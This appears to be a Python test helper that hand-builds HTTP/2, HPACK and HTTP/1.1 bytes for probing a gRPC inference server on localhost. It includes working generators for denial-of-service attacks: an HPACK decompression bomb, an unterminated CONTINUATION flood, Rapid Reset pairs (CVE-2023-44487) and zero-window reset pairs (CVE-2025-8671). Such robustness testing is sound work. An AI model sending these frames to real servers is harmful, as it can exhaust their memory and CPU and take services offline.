"""Bytes that strangers send: frames of HTTP/2 (RFC 9113), header blocks of HPACK (RFC 7541), heads of HTTP/1.1. Pure.

Written by hand, because a library refuses to write most of what is here.
"""

from __future__ import annotations

from collections.abc import Sequence
from itertools import count

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
"""Types of frames (RFC 9113, section 6)."""

ACK, END_STREAM, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 8

MAX_FRAME_BYTES = 16_384
"""The largest frame that a server takes unless it allows larger ones."""

FIRST_DYNAMIC = 62
"""Index of the newest entry of the dynamic table (RFC 7541, section 2.3.3)."""

HEALTH_CHECK = "/grpc.health.v1.Health/Check"
"""The one method that is answered without a credential."""

GENERATE = "/athanor.inference.v1.InferenceService/Generate"

EMPTY_MESSAGE = bytes(5)
"""A gRPC message without a field: not compressed, of length 0."""

BOMB_VALUE_BYTES = 3_900
"""Value of the entry that is referenced: with its name and 32 bytes it fits the 4,096 that every table has."""

BOMB_REFERENCES = 3_000
"""References to it in one header block of 3 KB, which says 11.7 MB of headers."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame: length, type, flags, stream, payload."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def settings(*values: tuple[int, int]) -> bytes:
    """A SETTINGS frame with these (identifier, value) pairs."""
    return frame(SETTINGS, 0, 0, b"".join(name.to_bytes(2, "big") + value.to_bytes(4, "big") for name, value in values))


def opening(*values: tuple[int, int]) -> bytes:
    """What a client sends first: the preface and its settings."""
    return PREFACE + settings(*values)


def integer(value: int, bits: int, first: int) -> bytes:
    """An integer with a prefix of so many bits below the bits of ``first`` (RFC 7541, section 5.1)."""
    most = (1 << bits) - 1
    if value < most:
        return bytes((first | value,))
    found, value = bytearray((first | most,)), value - most
    while value >= 128:
        found.append(value % 128 + 128)
        value //= 128
    found.append(value)
    return bytes(found)


def indexed(index: int) -> bytes:
    """A header that is in a table already (section 6.1)."""
    return integer(index, 7, 0x80)


def literal(name: str | int, value: bytes, *, keep: bool = False) -> bytes:
    """A header in full (section 6.2); its name may be an index. ``keep``: it enters the dynamic table."""
    bits, first = (6, 0x40) if keep else (4, 0x00)
    begin = integer(name, bits, first) if isinstance(name, int) else bytes((first,)) + _string(name.encode())
    return begin + _string(value)


def _string(value: bytes) -> bytes:
    return integer(len(value), 7, 0x00) + value


def grpc_headers(path: str, *others: tuple[str, str], secure: bool = False) -> bytes:
    """The header block of a gRPC call; it changes no table."""
    block = indexed(3) + indexed(7 if secure else 6) + literal(4, path.encode()) + literal(1, b"localhost")
    block += literal("te", b"trailers") + literal(31, b"application/grpc")
    return block + b"".join(literal(name, value.encode()) for name, value in others)


def call(stream: int, block: bytes) -> bytes:
    """A whole call: its headers, and one empty message that ends it."""
    return frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)


def bomb_blocks() -> tuple[bytes, bytes]:
    """The header block that makes an entry and refers to it, and the one that only refers to it, for later streams."""
    references = indexed(FIRST_DYNAMIC) * BOMB_REFERENCES
    call_of = grpc_headers(HEALTH_CHECK)
    return call_of + literal("x", b"a" * BOMB_VALUE_BYTES, keep=True) + references, call_of + references


def full_continuation(stream: int) -> bytes:
    """A CONTINUATION frame of the largest size with one long header, which does not end the block."""
    overhead = len(literal("x", b"")) + 2  # the length of a long value takes two bytes more
    value = b"a" * (MAX_FRAME_BYTES - overhead)
    return frame(CONTINUATION, 0, stream, literal("x", value))


def reset_pair(stream: int, block: bytes) -> bytes:
    """A call and its cancellation (CVE-2023-44487)."""
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, block) + frame(
        RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big")
    )


def error_pair(stream: int, block: bytes) -> bytes:
    """A call, and a window of nothing more that makes the server cancel it (CVE-2025-8671)."""
    return frame(HEADERS, END_HEADERS, stream, block) + frame(WINDOW_UPDATE, 0, stream, bytes(4))


def priority(stream: int) -> bytes:
    """A PRIORITY frame for a stream that depends on nothing."""
    return frame(PRIORITY, 0, stream, bytes(4) + b"\x10")


def window(stream: int, more: int = 1) -> bytes:
    """A WINDOW_UPDATE frame."""
    return frame(WINDOW_UPDATE, 0, stream, more.to_bytes(4, "big"))


def streams(first: int = 1) -> count[int]:
    """Numbers of a client's streams, in their order."""
    return count(first, 2)


def split_frames(data: bytes) -> list[tuple[int, int, int, bytes]]:
    """Type, flags, stream and payload of each whole frame; a part of one at the end is left out."""
    found, at = [], 0
    while at + 9 <= len(data):
        length = int.from_bytes(data[at : at + 3], "big")
        if at + 9 + length > len(data):
            break
        stream = int.from_bytes(data[at + 5 : at + 9], "big") & 0x7FFF_FFFF
        found.append((data[at + 3], data[at + 4], stream, data[at + 9 : at + 9 + length]))
        at += 9 + length
    return found


def http_request(method: str, path: str, headers: Sequence[tuple[str, str]] = (), body: bytes = b"") -> bytes:
    """A request of HTTP/1.1; its framing is left to ``headers``."""
    lines = [f"{method} {path} HTTP/1.1", "host: localhost", *(f"{name}: {value}" for name, value in headers)]
    return "\r\n".join(lines).encode("latin-1") + b"\r\n\r\n" + body
